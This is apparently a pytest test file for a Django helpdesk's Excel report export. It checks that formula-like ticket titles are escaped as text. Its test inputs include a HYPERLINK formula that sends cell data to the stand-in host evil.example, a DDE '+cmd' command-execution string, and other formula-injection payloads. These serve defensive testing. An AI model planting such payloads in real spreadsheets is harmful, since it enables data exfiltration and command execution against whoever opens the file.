"""Text a reporter typed reaches the Excel reports as text, never as a formula
that Excel would run when a supervisor opens the file."""

import datetime as dt
import io

import pytest
from helpdesk.models import Ticket
from openpyxl import load_workbook

from helpdesk_site.regions.models import Region
from reporting import services
from reporting.periods import containing
from tests.reporting.conftest import week  # noqa: F401  fixtures shared with reporting
from tests.satisfaction.conftest import (  # noqa: F401
    file_at,
    kangding_reporter,
    luding_reporter,
    now,
    resolve_at,
)
from tests.sla.conftest import at

pytestmark = pytest.mark.django_db

MONTH = containing("month", dt.date(2025, 11, 12))
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情")'


def workbook(code="513300"):
    content = services.render_report(
        MONTH, Region.objects.get(code=code), "xlsx", now=at("2025-12-02 12:00")
    )
    return load_workbook(io.BytesIO(content))


@pytest.mark.parametrize(
    "title",
    [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"],
)
def test_a_title_that_looks_like_a_formula_is_written_as_text(week, title):  # noqa: F811
    Ticket.objects.filter(pk=week["E"].pk).update(title=title)
    book = workbook()
    overdue = {row[0].value: row[1] for row in book["超期"].iter_rows(min_row=3)}
    cell = overdue[week["E"].pk]
    assert cell.data_type == "s"
    assert cell.value == "'" + title
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []


def test_ordinary_text_and_numbers_are_left_alone(week):  # noqa: F811
    book = workbook()
    overdue = {row[0].value: row[1] for row in book["超期"].iter_rows(min_row=3)}
    assert overdue[week["E"].pk].value == "旧积压工单"
    assert book["县市"]["C3"].data_type == "n"


def test_a_control_character_in_a_title_does_not_stop_the_report(week):  # noqa: F811
    Ticket.objects.filter(pk=week["E"].pk).update(title="系统\x0b崩溃\x1b")
    overdue = {row[0]: row[1] for row in workbook()["超期"].iter_rows(min_row=2, values_only=True)}
    assert overdue[week["E"].pk] == "系统崩溃"
